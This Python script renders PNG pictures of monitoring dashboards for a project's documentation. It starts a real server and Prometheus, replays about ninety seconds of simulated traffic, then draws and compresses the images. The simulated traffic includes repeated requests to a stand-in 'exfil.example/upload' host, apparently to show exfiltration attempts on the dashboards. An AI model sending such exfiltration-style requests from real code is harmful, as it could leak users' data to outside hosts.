"""Pictures of the dashboards from real data: a real `serve`, a real Prometheus, and a renderer of our own.

`make pictures` writes dashboards/pictures/*.png, for docs/monitoring.md.
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
import time
from pathlib import Path
from typing import Final

from PIL import Image

from tests.cli.program import Workspace
from tests.dashboards.panels import DASHBOARDS
from tests.dashboards.renderer import PAPER, SECONDS, Source, draw
from tests.dashboards.scene import Scene, playing

OUTPUT: Final = Path(__file__).parents[2] / "dashboards/pictures"
_PALETTE: Final = 64


def _play(scene: Scene) -> None:
    """A minute and a half in which something happens."""
    scene.held.append(scene.connect(scene.echo.port))
    end = time.monotonic() + SECONDS
    number = 0
    while time.monotonic() < end:
        number += 1
        scene.round()
        for _ in range(number % 5):
            scene.serving.get("http://exfil.example/upload", headers=scene.demo)
        time.sleep(1 + (number % 3))
    scene.prometheus.scraped({"cloned-proxy", "sandbox-stand-in"})


def _shrink(path: Path) -> None:
    """A few dozen colours are enough for lines and letters."""
    with Image.open(path) as picture:
        small = picture.convert("RGB").quantize(_PALETTE)
    small.save(path, optimize=True)


def main() -> None:
    OUTPUT.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="cloned-pictures-") as name:
        path = Path(name) / "ws"
        workspace = Workspace(path, {**os.environ, "CLONED_WORKSPACE": str(path)})
        try:
            with playing(workspace, Path(name), "--control", "127.0.0.1:0") as scene:
                _play(scene)
                token = json.loads(workspace.run("pair", "--api", "--read-only", "--json").stdout)["token"]
                source = Source(scene, token, time.time())
                for dashboard in DASHBOARDS:
                    draw(dashboard, source).savefig(OUTPUT / f"{dashboard}.png", facecolor=PAPER)
                    _shrink(OUTPUT / f"{dashboard}.png")
                    sys.stdout.write(f"{OUTPUT / dashboard}.png\n")
        finally:
            workspace.close()


if __name__ == "__main__":
    main()
